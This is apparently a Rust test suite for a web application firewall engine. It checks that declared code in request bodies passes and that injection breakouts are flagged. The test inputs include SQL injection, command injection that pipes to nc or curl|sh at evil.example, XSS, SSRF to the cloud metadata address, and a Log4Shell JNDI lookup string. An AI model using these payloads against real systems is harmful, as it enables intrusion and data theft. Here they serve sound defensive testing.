use super::*;

fn langs(body: &str) -> Vec<(String, Lang)> {
    declared_languages(body.as_bytes()).into_iter().map(|d| (d.location, d.lang)).collect()
}

#[test]
fn languages_by_name_and_file_name() {
    assert_eq!(Lang::by_name("PostgreSQL"), Some(Lang::Sql));
    assert_eq!(Lang::by_name("text/x-sql"), Some(Lang::Sql));
    assert_eq!(Lang::by_name("ace/mode/sh"), Some(Lang::Shell));
    assert_eq!(Lang::by_name("typescriptreact"), Some(Lang::Script));
    assert_eq!(Lang::by_name("english"), None);
    assert_eq!(Lang::by_file_name("src/App.jsx"), Some(Lang::Script));
    assert_eq!(Lang::by_file_name("db\\\\schema.SQL"), Some(Lang::Sql));
    assert_eq!(Lang::by_file_name("Dockerfile"), Some(Lang::Shell));
    assert_eq!(Lang::by_file_name("README.md"), Some(Lang::Markdown));
    // Names that are not files: no extension, a host name, a dotfile, a person.
    for n in ["report", "www.example.com", ".sql", "Anna Smith", "v1.2"] {
        assert_eq!(Lang::by_file_name(n), None, "{n}");
    }
}

#[test]
fn content_is_code_when_its_object_declares_a_language() {
    let body = r#"{"title":"demo","files":[{"name":"q.sql","content":"SELECT 1"},{"content":"x","name":"notes"}],
                  "cell":{"language":"bash","source":"ls -la"},"editor":{"mode":"ace/mode/html","value":"<p>"},
                  "post":{"name":"run.sh","description":"not the file"}}"#;
    assert_eq!(
        langs(body),
        vec![("body/files/0/content".to_string(), Lang::Sql), ("body/cell/source".to_string(), Lang::Shell), ("body/editor/value".to_string(), Lang::Markup),]
    );
}

#[test]
fn code_block_nodes_declare_their_text_children() {
    // ProseMirror/Tiptap, and Lexical with the language on the node.
    let pm = r#"{"doc":{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"see"}]},
               {"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"DELETE FROM t"}]},
               {"type":"code_block","content":[{"type":"text","text":"no language"}]}]}}"#;
    assert_eq!(langs(pm), vec![("body/doc/content/1/content/0/text".to_string(), Lang::Sql)]);
    let lexical = r#"{"root":{"children":[{"type":"code","language":"javascript","children":[{"type":"code-highlight","text":"a()"}]}]}}"#;
    assert_eq!(langs(lexical), vec![("body/root/children/0/children/0/text".to_string(), Lang::Script)]);
}

#[test]
fn markdown_by_key_or_declared_format() {
    let body =
        r#"{"markdown":"a","body_markdown":"b","post":{"format":"markdown","body":"c"},"c":{"format":"html","body":"<p>"},"path/x":{"lang":"md","text":"d"}}"#;
    assert_eq!(
        langs(body),
        vec![
            ("body/markdown".to_string(), Lang::Markdown),
            ("body/body_markdown".to_string(), Lang::Markdown),
            ("body/post/body".to_string(), Lang::Markdown),
            ("body/path~1x/text".to_string(), Lang::Markdown),
        ]
    );
    assert!(langs("not json").is_empty());
}

#[test]
fn code_begins_as_its_language_does_not_as_a_breakout() {
    assert!(begins_as_code(Lang::Sql, "  SELECT id FROM t"));
    assert!(begins_as_code(Lang::Sql, "with x as (select 1) select * from x"));
    assert!(begins_as_code(Lang::Sql, "-- report\nselect 1"));
    assert!(!begins_as_code(Lang::Sql, "' UNION SELECT password FROM users--"));
    assert!(!begins_as_code(Lang::Sql, "1 OR 1=1"));
    assert!(begins_as_code(Lang::Shell, "#!/bin/sh\nmake"));
    assert!(begins_as_code(Lang::Shell, "for f in *.log; do gzip \"$f\"; done"));
    assert!(!begins_as_code(Lang::Shell, "; cat /etc/passwd"));
    assert!(!begins_as_code(Lang::Shell, "$(id)"));
    assert!(!begins_as_code(Lang::Shell, "| nc evil.example 4444"));
    assert!(begins_as_code(Lang::Markup, "<!DOCTYPE html><script>x()</script>"));
    assert!(!begins_as_code(Lang::Markup, "\"><script>alert(1)</script>"));
    assert!(!begins_as_code(Lang::Script, "';alert(1)//"));
    assert!(!begins_as_code(Lang::Sql, "   "));
}

#[test]
fn markdown_code_spans_and_fences_are_blanked() {
    assert_eq!(blank_markdown_code("use `<script>` here"), "use `        ` here");
    assert_eq!(blank_markdown_code("a ``x ` y`` b"), "a ``     `` b");
    // An unclosed span is not code.
    assert_eq!(blank_markdown_code("a ` <b>"), "a ` <b>");
    let fenced = "intro\n```sql\nDROP TABLE t;\n```\n<img src=x onerror=alert(1)>";
    assert_eq!(blank_markdown_code(fenced), "intro\n```sql\n             \n```\n<img src=x onerror=alert(1)>");
    // A fence closed by a longer one, and one never closed (runs to the end).
    assert_eq!(blank_markdown_code("~~~\nrm -rf /\n~~~~\nok"), "~~~\n        \n~~~~\nok");
    assert_eq!(blank_markdown_code("```\n$(id)"), "```\n     ");
    // Non-ASCII inside a span stays valid UTF-8.
    assert_eq!(blank_markdown_code("`é`"), "`  `");
}

/// The body-phase findings of a JSON body (gzip-compressed when asked) at a level.
fn judged(body: &str, level: Level, gzip: bool) -> Vec<Finding> {
    use std::io::Write as _;
    let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::PUT, "/api/pens/1");
    req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
    req.body = if gzip {
        req.headers.insert(http::header::CONTENT_ENCODING, http::HeaderValue::from_static("gzip"));
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(body.as_bytes()).unwrap();
        e.finish().unwrap()
    } else {
        body.as_bytes().to_vec()
    };
    let engine = Engine::new(crate::EngineConfig::default()).unwrap();
    let mut scratch = engine.scratch();
    let mut report = crate::engine::Report::default();
    engine.inspect_phase(&req.view(), palisade_core::Phase::Body, level, &mut scratch, &mut report);
    report.findings
}

#[test]
fn declared_code_is_not_judged_in_its_own_language_at_any_level() {
    let sql = r#"{"files":[{"name":"report.sql","content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
    for gzip in [false, true] {
        assert!(judged(sql, Level::Balanced, gzip).is_empty(), "{:?}", judged(sql, Level::Balanced, gzip));
        assert!(judged(sql, Level::Strict, gzip).is_empty(), "{:?}", judged(sql, Level::Strict, gzip));
    }
    // Without the file name, the same text is an injection at balanced.
    let bare = r#"{"files":[{"content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
    assert!(judged(bare, Level::Balanced, false).iter().any(|f| f.detector == "sqli" && f.confidence >= 60));
    let shell = r#"{"cell":{"language":"bash","source":"find . -name '*.tmp' -delete; ls -la"}}"#;
    assert!(judged(shell, Level::Balanced, false).is_empty());
    let jsx = r#"{"name":"App.jsx","code":"export const B = () => <button onClick={() => go(1)}>go</button>;"}"#;
    assert!(judged(jsx, Level::Balanced, false).is_empty());
    assert!(judged(jsx, Level::Strict, false).is_empty());
    // Shell words in code of another language are that language's statements: `;` then a
    // name that is also a program's (`true`, `set`) in JavaScript.
    let js = r#"{"language":"javascript","code":"const t = setTimeout(() => setReady(true), 500); set(x); true;"}"#;
    assert!(judged(js, Level::Strict, false).iter().all(|f| f.detector != "cmdi"), "{:?}", judged(js, Level::Strict, false));
}

#[test]
fn declared_code_does_not_cover_other_languages_or_breakouts() {
    // Another language's attack in declared SQL: unchanged.
    let xss_in_sql = r#"{"name":"q.sql","content":"SELECT 1; <script>alert(document.cookie)</script>"}"#;
    assert!(judged(xss_in_sql, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
    // A value that begins by closing a string is an injection whatever the neighbours say.
    let breakout = r#"{"language":"sql","query":"' UNION SELECT password FROM users--"}"#;
    assert!(judged(breakout, Level::Balanced, false).iter().any(|f| f.detector == "sqli" && f.confidence >= 60));
    let shell = r#"{"language":"bash","code":"; curl http://evil.example/x | sh"}"#;
    assert!(judged(shell, Level::Balanced, false).iter().any(|f| f.detector == "cmdi"));
    // A format of html declares no code: saved HTML is where stored XSS lives.
    let html = r#"{"format":"html","body":"<p>hi</p><script>alert(1)</script>"}"#;
    assert!(judged(html, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
}

#[test]
fn markdown_code_is_text_and_raw_html_outside_it_is_not() {
    let md = r#"{"markdown":"- Added `<script>` loading via `defer`\n\n```js\ndocument.body.innerHTML = `<b>${x}</b>`;\n```"}"#;
    assert!(judged(md, Level::Balanced, false).is_empty(), "{:?}", judged(md, Level::Balanced, false));
    assert!(judged(md, Level::Strict, false).is_empty(), "{:?}", judged(md, Level::Strict, false));
    let raw = r#"{"markdown":"Look `code` <img src=x onerror=alert(document.domain)>"}"#;
    assert!(judged(raw, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
}

#[test]
fn code_block_nodes_are_code_of_their_language() {
    let pm = r#"{"doc":{"type":"doc","content":[{"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"DELETE FROM sessions WHERE expires_at < CURRENT_TIMESTAMP; -- cleanup"}]}]}}"#;
    assert!(judged(pm, Level::Balanced, false).is_empty());
    assert!(judged(pm, Level::Strict, false).is_empty());
    // The same text in a paragraph is judged as any text.
    let para = pm.replace("codeBlock", "paragraph");
    assert!(!judged(&para, Level::Balanced, false).is_empty());
}

#[test]
fn search_names_by_convention() {
    for n in ["q", "Q", "query", "search", "s", "term", "keywords", "search_query", "searchTerm", "search-text", "prefix", "text", "wd"] {
        assert!(search_name(n), "{n}");
    }
    for n in ["id", "file", "url", "sort", "order", "cmd", "queryId", "q2", "path", "redirect", "name", "searchresultsforthesite"] {
        assert!(!search_name(n), "{n}");
    }
    let roles = Roles::default();
    assert!(roles.free_text(&Location::Query("q"), FieldKind::QueryValue));
    assert!(!roles.free_text(&Location::Query("q"), FieldKind::QueryName));
    assert!(roles.free_text(&Location::Field("search"), FieldKind::FormValue));
    assert!(roles.free_text(&Location::Header("Referer"), FieldKind::Header));
    assert!(!roles.free_text(&Location::Header("User-Agent"), FieldKind::Header));
    assert!(roles.free_text(&Location::Named("query.variables/q"), FieldKind::JsonValue));
    assert!(!roles.free_text(&Location::Named("query.variables/id"), FieldKind::JsonValue));
}

#[test]
fn an_app_adds_role_names_and_can_turn_the_conventions_off() {
    let added = Roles { conventions: true, search: vec![Roles::fold("Site-Lookup")], redirect: vec![Roles::fold("nextPage")] };
    assert!(added.free_text(&Location::Query("site_lookup"), FieldKind::QueryValue));
    assert!(added.free_text(&Location::Query("q"), FieldKind::QueryValue));
    assert!(!added.free_text(&Location::Query("site_lookups"), FieldKind::QueryValue));
    assert!(added.redirect_target(&Location::Field("next_page"), FieldKind::FormValue));
    assert!(added.redirect_target(&Location::Field("redirect_uri"), FieldKind::FormValue));
    // Names an app declares are free text in JSON too, even those the conventions leave to
    // the declared-code context there.
    let json_text = Roles { conventions: true, search: vec![Roles::fold("text")], redirect: Vec::new() };
    let key = [crate::extract::Seg::Key(std::borrow::Cow::Borrowed("text"))];
    assert!(!Roles::default().free_text(&Location::Json(&key), FieldKind::JsonValue));
    assert!(json_text.free_text(&Location::Json(&key), FieldKind::JsonValue));

    let only = Roles { conventions: false, search: vec![Roles::fold("site_lookup")], redirect: Vec::new() };
    assert!(only.free_text(&Location::Query("site_lookup"), FieldKind::QueryValue));
    assert!(!only.free_text(&Location::Query("q"), FieldKind::QueryValue));
    assert!(!only.free_text(&Location::Header("Referer"), FieldKind::Header));
    assert!(!only.redirect_target(&Location::Query("redirect_uri"), FieldKind::QueryValue));

    // Whole requests: a search about SQL passes in a declared search field and is judged as
    // any value once the conventions are off.
    let inspect = |query: &str, roles: &Roles| {
        let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::GET, "/find");
        req.query = Some(query.to_string());
        let engine = Engine::new(crate::EngineConfig { roles: roles.clone(), ..crate::EngineConfig::default() }).unwrap();
        engine.inspect(&req.view())
    };
    assert!(!inspect("site_lookup=order+by+1+desc", &Roles::default()).is_empty());
    assert!(inspect("site_lookup=order+by+1+desc", &added).is_empty());
    assert!(inspect("q=order+by+1+desc", &Roles::default()).is_empty());
    assert!(!inspect("q=order+by+1+desc", &only).is_empty());
    // A breakout is an injection in a declared search field too.
    assert!(!inspect("site_lookup=%27+or+1%3D1--", &added).is_empty());
}

/// The findings of a GET request with this query and `Referer`, at a level.
fn get(query: &str, referer: Option<&str>, level: Level) -> Vec<Finding> {
    let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::GET, "/search");
    req.query = Some(query.to_string());
    if let Some(r) = referer {
        req.headers.insert(http::header::REFERER, http::HeaderValue::from_str(r).unwrap());
    }
    let engine = Engine::new(crate::EngineConfig { level, ..crate::EngineConfig::default() }).unwrap();
    engine.inspect(&req.view())
}

#[test]
fn searches_are_free_text_and_breakouts_in_them_are_not() {
    // Written for this rule: searches about SQL and shell, in a search box and in the search
    // engine's address a visitor came from.
    for q in ["order+by+1+desc", "cat+%2Fetc%2Fhosts+linux", "waitfor+delay+%270%3A0%3A5%27+sql+server", "drop+table+if+exists+syntax"] {
        for level in [Level::Balanced, Level::Strict] {
            assert!(get(&format!("q={q}"), None, level).is_empty(), "{q}: {:?}", get(&format!("q={q}"), None, level));
            let referer = format!("https://www.bing.com/search?q={q}&form=QBLH");
            assert!(get("page=2", Some(&referer), level).is_empty(), "{referer}: {:?}", get("page=2", Some(&referer), level));
        }
    }
    // The same values in a parameter of another role are judged as before.
    assert!(!get("sort=order+by+1+desc", None, Level::Balanced).is_empty());
    // Breakouts are injections in a search box and in a `Referer` alike.
    for q in
        ["%27+or+1%3D1--", "1+union+select+null%2Cversion()--", "x%27%3B+DROP+TABLE+users", "%3B+cat+%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"]
    {
        assert!(!get(&format!("q={q}"), None, Level::Balanced).is_empty(), "{q}");
        let referer = format!("https://www.example.com/search?q={q}");
        assert!(!get("page=2", Some(&referer), Level::Balanced).is_empty(), "{referer}");
    }
}

#[test]
fn redirect_targets_by_name() {
    for n in ["redirect_uri", "redirectUri", "post_logout_redirect_uri", "return_to", "returnUrl", "success_url"] {
        assert!(redirect_name(n), "{n}");
    }
    for n in ["url", "webhook_url", "callback", "image_url", "feed", "redirect_uri_and_some_more_words_that_do_not_fit"] {
        assert!(!redirect_name(n), "{n}");
    }
    // A loopback redirect of a native app is not a request forgery; the same address as a
    // webhook the server calls is, and so is a metadata address or an internal service where
    // a browser is sent.
    let findings = |body: &str, level| {
        let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::POST, "/oauth/clients");
        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
        req.body = body.as_bytes().to_vec();
        let engine = Engine::new(crate::EngineConfig { level, ..crate::EngineConfig::default() }).unwrap();
        engine.inspect(&req.view())
    };
    assert!(findings(r#"{"redirect_uri":"http://localhost/callback"}"#, Level::Strict).is_empty());
    assert!(!findings(r#"{"webhook_url":"http://localhost/callback"}"#, Level::Strict).is_empty());
    assert!(!findings(r#"{"redirect_uri":"http://169.254.169.254/latest/meta-data/"}"#, Level::Balanced).is_empty());
    assert!(!findings(r#"{"redirect_uri":"http://localhost:6379/"}"#, Level::Balanced).is_empty());
    assert!(findings(r#"{"redirect_uri":"http://127.0.0.1/cb"}"#, Level::Strict).is_empty());
    assert!(!findings(r#"{"returnTo":"http://localhost.localdomain/"}"#, Level::Strict).is_empty());
}

#[test]
fn ldap_and_log4j_words_in_a_search() {
    for q in ["ldap+filter+(%26(uid%3D*))+syntax", "%24%7Bjndi%3Aldap%7D+log4j+explained"] {
        assert!(get(&format!("q={q}"), None, Level::Strict).is_empty(), "{q}: {:?}", get(&format!("q={q}"), None, Level::Strict));
    }
    for q in ["*)(uid%3D*))(%7C(uid%3D*", "*()%7C%26%27", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"] {
        assert!(!get(&format!("q={q}"), None, Level::Balanced).is_empty(), "{q}");
    }
}

#[test]
fn a_query_field_that_begins_as_a_statement_is_sql_and_serialised_documents_are_walked() {
    // Written for this rule: a dashboard saved as a JSON document inside a JSON string.
    let inner = r#"{"panels":[{"type":"graph","query":"SELECT mean(value) FROM cpu WHERE time > now() - 1h GROUP BY time(1m)","title":"load"}]}"#;
    let body = serde_json::json!({"dashboard": {"title": "hosts", "json": inner}, "sql": "select 1"}).to_string();
    assert_eq!(langs(&body), vec![("body/dashboard/json/panels/0/query".to_string(), Lang::Sql), ("body/sql".to_string(), Lang::Sql)]);
    for level in [Level::Balanced, Level::Strict] {
        assert!(judged(&body, level, false).is_empty(), "{:?}", judged(&body, level, false));
    }
    // A declared language wins over the key's name.
    assert_eq!(langs(r#"{"language":"bash","query":"ls"}"#), vec![("body/query".to_string(), Lang::Shell)]);
    // A breakout in a query field, serialised or not, is an injection.
    for b in [
        serde_json::json!({"query": "' UNION SELECT password FROM users--"}).to_string(),
        serde_json::json!({"json": serde_json::json!({"query": "' UNION SELECT password FROM users--"}).to_string()}).to_string(),
        serde_json::json!({"data": serde_json::json!({"filter": serde_json::json!({"$where": "sleep(5000)"}).to_string()}).to_string()}).to_string(),
    ] {
        assert!(judged(&b, Level::Balanced, false).iter().any(|f| f.confidence >= 60), "{b}");
    }
}
